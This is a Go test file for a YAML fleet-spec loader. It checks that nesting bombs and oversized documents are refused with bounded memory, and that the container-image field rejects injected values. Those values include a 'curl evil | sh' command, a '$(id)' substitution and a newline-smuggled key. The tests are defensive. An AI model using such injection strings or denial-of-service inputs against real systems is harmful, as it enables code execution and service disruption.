package spec

import (
	"os"
	"runtime"
	"strings"
	"testing"
	"time"
)

// loadBounded loads src and reports the bytes it allocated; it fails the test if loading does
// not return within a minute (before the pre-scan, 100,000 "[" took goccy/go-yaml 23 s and
// 6 GB, then the process died).
func loadBounded(t *testing.T, src string) (*File, []string, uint64) {
	t.Helper()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	done := make(chan []string, 1)
	var f *File
	go func() {
		file, ds := Load("fleet.yaml", []byte(src))
		f = file
		var out []string
		for _, d := range ds {
			out = append(out, d.String())
		}
		done <- out
	}()
	select {
	case ds := <-done:
		runtime.ReadMemStats(&after)
		return f, ds, after.TotalAlloc - before.TotalAlloc
	case <-time.After(time.Minute):
		t.Fatal("Load did not return within a minute")
		return nil, nil, 0
	}
}

func TestNestingBombsAreRefusedBeforeParsing(t *testing.T) {
	for _, tc := range []struct {
		name, src, want string
	}{
		{"100,000 [", strings.Repeat("[", 100_000), "fleet.yaml:1:65: P001: the document is too large or too deeply nested: flow collections nested past 64 levels"},
		{"nested flow maps in a value", "version: 1\nname: " + strings.Repeat("{a: ", 100_000), "fleet.yaml:2:263: P001"},
		{"block maps one space deeper each line", blockBomb(200), "fleet.yaml:66:66: P001: the document is too large or too deeply nested: block collections nested past 64 levels"},
		{"dashes on one line", strings.Repeat("- ", 10_000) + "x\n", "fleet.yaml:1:129: P001"},
		{"a million flow entries", "version: 1\nname: [" + strings.Repeat("a,", 1_000_000) + "]\n", "fleet.yaml:2:1: P001: the document is too large or too deeply nested: over 200000 values"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, ds, alloc := loadBounded(t, tc.src)
			if len(ds) != 1 || !strings.HasPrefix(ds[0], tc.want) {
				t.Errorf("diagnostics %q, want one starting %q", ds, tc.want)
			}
			// The source is copied a few times (index, lines); nothing grows with the nesting.
			if limit := uint64(len(tc.src))*8 + 1<<20; alloc > limit {
				t.Errorf("allocated %d bytes for a %d-byte document, over %d", alloc, len(tc.src), limit)
			}
		})
	}
}

func blockBomb(levels int) string {
	var b strings.Builder
	for i := range levels {
		b.WriteString(strings.Repeat(" ", i) + "a:\n")
	}
	return b.String()
}

// The pre-scan never refuses what the converter would accept: brackets inside quotes,
// comments, plain scalars and block scalars are text, not nesting.
func TestPrescanCountsOnlyStructure(t *testing.T) {
	deep := strings.Repeat("[", 100)
	src := "version: 1\nname: demo\n" +
		"# " + deep + "\n" +
		"description: \"" + deep + "\"\n" +
		"x1: '" + deep + "'' " + deep + "'\n" +
		"x2: a" + deep + "\n" +
		"x3: |\n  " + deep + "\n  " + deep + "\n" +
		"x4: [\"" + deep + "\", '" + deep + "']\n" +
		"x5: \"multi\n  line " + deep + "\"\n"
	if line, col, what, ok := prescan([]byte(src)); !ok {
		t.Errorf("refused at %d:%d (%s):\n%s", line, col, what, src)
	}
	// And the limits sit where the converter's are: maxDepth levels pass the pre-scan.
	if _, _, _, ok := prescan([]byte(strings.Repeat("[", maxDepth) + strings.Repeat("]", maxDepth))); !ok {
		t.Errorf("%d flow levels refused", maxDepth)
	}
	if _, _, _, ok := prescan([]byte(blockBomb(maxDepth))); !ok {
		t.Errorf("%d block levels refused", maxDepth)
	}
}

// worker.image and a class's image are container image references, nothing else: the value
// lands in Lambda, AgentCore and Kubernetes definitions.
func TestImageIsAReference(t *testing.T) {
	src, err := os.ReadFile("../examples/minimal/fleet.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const good = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/fleet-worker:0.1.0"
	if !strings.Contains(string(src), good) {
		t.Fatal("the minimal example changed its image")
	}
	for _, bad := range []string{`"ghcr.io/x:1; curl evil | sh"`, `"$(id)"`, `"ghcr.io/Fleet/Worker"`, `"ghcr.io/x:1\nmalicious: true"`} {
		_, ds := Load("fleet.yaml", []byte(strings.Replace(string(src), good, bad, 1)))
		if len(ds) == 0 || ds[0].Path != "/worker/image" || ds[0].Subject == nil {
			t.Errorf("image %s: %v, want a positioned error at /worker/image", bad, ds)
		}
	}
	if _, ds := Load("fleet.yaml", []byte(strings.Replace(string(src), good, "localhost:5000/team/fleet-worker@sha256:"+strings.Repeat("a", 64), 1))); len(ds) != 0 {
		t.Errorf("a digest reference: %v", ds)
	}
}
